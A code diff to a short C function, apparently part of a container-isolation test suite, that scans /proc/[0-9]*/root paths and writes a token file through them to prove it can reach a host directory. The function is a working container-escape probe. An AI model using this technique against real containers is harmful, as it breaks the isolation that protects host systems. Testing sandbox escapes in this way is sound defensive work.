@@ -6,20 +6,20 @@
 #include "attack.h"
 #include <glob.h>
 
+// #region attack
 /* argv: the host's path of a token. */
 void proc_root(char **argv)
 {
 	char path[PATH_MAX];
 	glob_t roots;
+	int fd = -1;
 	snprintf(path, sizeof path, "%s/[0-9]*/root", proc());
 	must(glob(path, 0, NULL, &roots) ? -1 : 0, "see a process");
-	for (size_t n = 0; n < roots.gl_pathc; n++) {
+	for (size_t n = 0; n < roots.gl_pathc && fd < 0; n++) {
 		snprintf(path, sizeof path, "%s%s", roots.gl_pathv[n], argv[0]);
-		const int fd = open(path, O_WRONLY | O_CREAT, 0644);
-		if (fd >= 0)
-			must(write(fd, "out\n", 4), "write a token");
-		if (fd >= 0)
-			return;
+		fd = open(path, O_WRONLY | O_CREAT, 0644);
 	}
-	must(-1, "write into a directory of the host");
+	must(fd, "write into a directory of the host");
+	must(write(fd, "out\n", 4), "write a token");
 }
+// #endregion attack
